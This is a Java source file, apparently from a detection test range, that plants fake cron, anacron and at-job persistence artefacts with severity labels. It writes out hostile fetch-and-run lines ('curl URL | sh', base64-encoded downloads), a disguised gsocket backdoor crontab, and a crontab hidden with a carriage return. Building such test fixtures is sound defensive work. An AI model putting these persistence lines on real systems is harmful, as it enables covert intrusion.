package davy.range.plant;

/// What intruders leave where jobs are scheduled: cron in all its places, at, anacron.
final class ScheduleArtefacts {
    private ScheduleArtefacts() {}

    static void plant(Ground ground) {
        downloads(ground);
        disguised(ground);
        programs(ground);
        others(ground);
    }

    private static void downloads(Ground ground) {
        Dice dice = ground.dice;
        String person = ground.person();
        String table = spool(ground, person, every(dice) + " curl -fsSL " + dice.url() + " | sh\n");
        ground.artefact("crontab of a person fetches and runs", "cron-download", "critical", table);

        String word = ground.word();
        String fragment =
                ground.write(
                        "/etc/cron.d/" + word,
                        every(dice) + " root (wget -q -O- " + dice.url() + " || true) | bash\n");
        ground.artefact("cron.d fetches and runs", "cron-download", "critical", fragment);

        String hidden =
                Inert.base64(
                        "curl -s " + dice.url() + " -o /tmp/." + word + " && sh /tmp/." + word);
        String redHat =
                ground.write(
                        "/var/spool/cron/" + ground.person(),
                        every(dice) + " echo " + hidden + " | base64 -d | bash\n");
        ground.artefact(
                "crontab in the place of Red Hat, in base 64", "cron-download", "critical", redHat);

        String daily =
                ground.script(
                        "/etc/cron.daily/" + ground.word(),
                        "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('"
                                + dice.url()
                                + "').read())\" >/dev/null 2>&1 &\n");
        ground.artefact("cron.daily fetches into Python", "cron-download", "critical", daily);
    }

    private static void disguised(Ground ground) {
        Dice dice = ground.dice;
        String blind =
                spool(
                        ground,
                        ground.person(),
                        every(dice)
                                + " /bin/sh -c '/var/tmp/."
                                + ground.word()
                                + "/run'\r# no crontab for this user"
                                + " ".repeat(60)
                                + "\r\n");
        ground.artefact("crontab that a terminal shows empty", "cron-hidden-text", "high", blind);

        String seed =
                spool(
                        ground,
                        ground.person(),
                        "# DO NOT REMOVE THIS LINE. SEED PRNG. #"
                                + dice.letters(8)
                                + "-kernel\n0 * * * * { echo "
                                + Inert.base64(
                                        "/usr/bin/pkill -0 -U0 "
                                                + dice.letters(6)
                                                + " 2>/dev/null || GS_ARGS='-k /etc/."
                                                + dice.letters(6)
                                                + " -liqD' /usr/bin/"
                                                + dice.letters(6))
                                + "|base64 -d|bash;} 2>/dev/null #1b5b324b random seed prng\n");
        ground.artefact("crontab of a gsocket backdoor", "cron-seed", "critical", seed);

        String dump =
                spool(
                        ground,
                        "redis" + dice.between(1, 99),
                        "REDIS0009\u00fa\tredis-ver\u00055.0.7\n\n\n"
                                + every(dice)
                                + " root curl -fsSL "
                                + dice.url()
                                + "|sh\n\n\n\u00ff\u0001\u0002");
        ground.artefact("crontab that a database wrote", "redis-dump", "critical", dump);
    }

    private static void programs(Ground ground) {
        Dice dice = ground.dice;
        String nightly = "/var/lib/" + ground.word() + "/" + ground.word();
        ground.program(nightly, ground.inert.program());
        String off =
                spool(
                        ground,
                        ground.person(),
                        "*/%d 20-23,0-%d * * * %s -q\n"
                                .formatted(dice.between(4, 20), dice.between(4, 7), nightly));
        ground.artefact(
                "job outside office hours only", "cron-off-hours cron-unpackaged", "medium", off);

        String program = "/var/tmp/." + ground.word() + "/" + ground.word();
        ground.program(program, ground.inert.staticProgram());
        String job =
                ground.write(
                        "/etc/cron.d/" + ground.word(),
                        "@reboot root " + program + " >/dev/null 2>&1\n");
        ground.artefact(
                "job runs a program from a hidden folder", "cron-unpackaged", "medium", job);
    }

    private static void others(Ground ground) {
        Dice dice = ground.dice;
        String anacron =
                ground.write(
                        "/etc/anacrontab",
                        "SHELL=/bin/sh\n1 5 "
                                + ground.word()
                                + " wget -qO- "
                                + dice.url()
                                + " | /bin/bash\n");
        ground.artefact("anacron fetches and runs", "cron-download", "critical", anacron);

        String at =
                ground.script(
                        "/var/spool/cron/atjobs/a0000" + dice.between(1, 9) + "01" + dice.hex(6),
                        """
                        #!/bin/sh
                        # atrun uid=0 gid=0
                        # mail root 0
                        umask 22
                        cd /root || { echo 'Execution directory inaccessible' >&2; exit 1; }
                        curl -s %s -o /var/tmp/.%s && sh /var/tmp/.%s
                        """
                                .formatted(dice.url(), dice.letters(5), dice.letters(5)));
        ground.artefact("at job fetches and runs", "at-job", "medium", at);
    }

    private static String every(Dice dice) {
        return "*/" + dice.between(2, 29) + " * * * *";
    }

    private static String spool(Ground ground, String person, String text) {
        String path = ground.raw("/var/spool/cron/crontabs/" + person, text);
        return ground.mode(path, "rw-------");
    }
}
